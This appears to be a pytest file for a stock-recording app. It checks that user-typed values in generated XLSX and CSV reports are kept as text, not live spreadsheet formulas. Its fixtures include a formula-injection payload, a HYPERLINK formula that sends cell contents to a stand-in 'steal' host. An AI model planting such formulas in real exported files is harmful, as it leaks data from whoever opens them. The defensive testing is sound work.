"""Spreadsheet formula injection (issue 19, finding 5), on SQLite and PostgreSQL: a text a
person typed (a document number, a note, a witness, a resident's name) is written as text in
every workbook and CSV file we produce, never as a formula; our own totals stay formulas and
numbers stay numbers (a negative one too).

Before: a `document` or `note` beginning with '=' became a live formula in the receipt,
usage and destruction workbooks, a resident named '=HYPERLINK(...)' one in the
unrecorded-residents list, and the CSV exports and the rejects file wrote '=', '+', '-', '@'
values as they came.
"""

from __future__ import annotations

import csv
import io
import re
from datetime import date
from pathlib import Path
from typing import Any

from openpyxl import load_workbook

from blangko.adapters.reports import render_bytes
from blangko.adapters.reports.tabular import write_rows
from blangko.services import reports
from blangko.services.context import Context
from blangko.services.stock import writes

LINK = '=HYPERLINK("http://contoh.invalid/curi?d="&A1,"Klik untuk rincian")'
TYPED = {
    "document": LINK,
    "note": "=1+1",
    "spoil_note": "@SUM(A1:A9)",
    "witnesses": ["+Budi Santoso", "-Ani"],
    "destroy_document": "=BA/PEMUSNAHAN/1",
}
# The only formulas a report holds: its own totals rows.
OURS = re.compile(r"^=(SUM|IF)\(")


def cells_of(content: bytes) -> list[Any]:
    wb = load_workbook(io.BytesIO(content))
    return [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]


def check_no_injected_formula(content: bytes, typed: list[str]) -> None:
    cells = cells_of(content)
    formulas = [c.value for c in cells if c.data_type == "f"]
    assert all(OURS.match(str(f)) for f in formulas), formulas
    shown = {c.value: c for c in cells if isinstance(c.value, str)}
    for text in typed:
        holding = [c for v, c in shown.items() if text in v]
        assert holding, f"{text!r} is not in the workbook"
        for c in holding:
            assert c.data_type == "s", (c.coordinate, c.value)
            if c.value.startswith(("=", "+", "-", "@")):
                assert c.quotePrefix, c.coordinate  # stays text when a clerk edits the cell


def story(ctx: Context) -> dict[str, int]:
    writes.record_opening(ctx, serials="KR0001001-KR0001100", effective=date(2026, 11, 2))
    receipt = writes.receive_shipment(
        ctx,
        serials="KR0100001-KR0100200",
        source="Ditjen Dukcapil",
        document=TYPED["document"],
        note=TYPED["note"],
        effective=date(2026, 11, 3),
    )
    writes.consume(ctx, service="pemula", qty=5, note=TYPED["note"], effective=date(2026, 11, 4))
    writes.spoil(
        ctx,
        serial="KR0001010",
        reason="lainnya",
        note=TYPED["spoil_note"],
        effective=date(2026, 11, 5),
    )
    writes.destroy_spoiled(
        ctx,
        month="2026-11",
        destroyed_on=date(2026, 11, 20),
        witnesses=TYPED["witnesses"],
        document=TYPED["destroy_document"],
    )
    return {"receipt_seq": receipt["entries"][0]["seq"]}


def test_typed_texts_are_text_in_the_receipt_usage_and_destruction_workbooks(
    ctx: Context, office: str
) -> None:
    seqs = story(ctx)
    receipt = render_bytes(reports.receipt.build(ctx, seq=seqs["receipt_seq"]), "xlsx")
    check_no_injected_formula(receipt, [TYPED["document"]])
    usage = render_bytes(reports.usage.build(ctx, month="2026-11"), "xlsx")
    check_no_injected_formula(usage, [TYPED["document"]])
    assert any(OURS.match(str(c.value)) for c in cells_of(usage))  # the totals are formulas
    destruction = render_bytes(reports.destruction.build(ctx, month="2026-11"), "xlsx")
    check_no_injected_formula(
        destruction, [TYPED["destroy_document"], TYPED["spoil_note"], *TYPED["witnesses"]]
    )


def test_lists_neutralise_text_but_keep_numbers_in_xlsx_and_csv(tmp_path: Path) -> None:
    header = ["nama", "catatan", "angka", "tanggal"]
    rows = [
        [LINK, "+62 812 3456", -5, date(2026, 11, 27)],
        ["@budi", "-", 0, None],
        ["\tTab", "\rCR", 3.5, None],
        ["Budi\x01Santoso", "biasa", -1, None],
    ]
    xlsx = tmp_path / "daftar.xlsx"
    write_rows(xlsx, header, rows, text_columns={1})
    ws = load_workbook(xlsx).active
    got = [[c for c in row] for row in ws.iter_rows(min_row=2)]
    assert [c.value for c in got[0][:3]] == [LINK, "+62 812 3456", -5]
    assert got[0][0].data_type == "s" and got[0][0].quotePrefix
    assert got[0][2].data_type == "n"  # a negative number stays a number
    assert got[2][2].value == 3.5
    assert got[3][0].value == "Budi\\x01Santoso"  # a control character cannot break the file
    assert not [c for row in got for c in row if c.data_type == "f"]

    out = tmp_path / "daftar.csv"
    write_rows(out, header, rows)
    with out.open(encoding="utf-8-sig", newline="") as f:
        read = list(csv.reader(f))
    assert read[1] == ["'" + LINK, "'+62 812 3456", "-5", "2026-11-27"]
    assert read[2] == ["'@budi", "'-", "0", ""]
    assert read[3] == ["'\tTab", "'\rCR", "3.5", ""]
    assert read[4] == ["Budi\\x01Santoso", "biasa", "-1", ""]
